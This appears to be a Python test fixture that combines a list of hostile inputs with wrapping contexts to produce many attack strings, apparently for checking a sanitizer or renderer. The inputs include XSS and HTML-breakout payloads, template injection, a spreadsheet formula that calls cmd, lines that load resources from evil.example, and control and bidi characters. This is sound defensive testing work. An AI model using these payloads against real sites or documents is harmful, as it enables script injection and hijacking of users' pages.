"""Hostile words, made from kinds of attack and ways to wrap them."""

from __future__ import annotations

_ATTACKS = (
    "<script>window.broken = 1</script>",
    "<img src=x onerror=window.broken=1>",
    "<svg/onload=window.broken=1>",
    '<a href="javascript:window.broken=1">x</a>',
    "<iframe srcdoc='<script>parent.broken=1</script>'></iframe>",
    "<body onload=window.broken=1>",
    "<style>@import'//evil.example/x.css';*{display:none}</style>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>x</button></form>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.broken=1>",
    "{{ 7*7 }}{% for x in (1,) %}{{ x }}{% endfor %}${7*7}",
    "&lt;script&gt;window.broken=1&lt;/script&gt;&#60;script&#62;",
    "' autofocus onfocus='window.broken=1",
    '" hx-get="//evil.example" hx-trigger="load" x="',
    "\u202ereversed\u202c \u2066isolated\u2069 \u200bzero\u200dwidth\ufeff",
    "\x1b[31mred\x1b[0m\x07\x00\x9b",
    "]]>--><!-- <![CDATA[ <?php ?>",
    "data:text/html,<script>window.broken=1</script>",
    "=HYPERLINK(\"http://evil.example\")|cmd'/c calc'!A1",
    "A" * 5000,
    "\ud800 lone \udfff halves",
)
_WRAPS = (
    "{}",
    "Oslo said {} on Monday.",
    "</title></textarea></script>{}",
    '">{}<"',
    "'>{}<'",
    "--></style>{}<!--",
    "{}\n\n{}",
    "javascript:{}",
    "<p title='{}'>",
    "%3C{}%3E",
)
ARTICLES = tuple(dict.fromkeys(wrap.replace("{}", attack) for attack in _ATTACKS for wrap in _WRAPS))
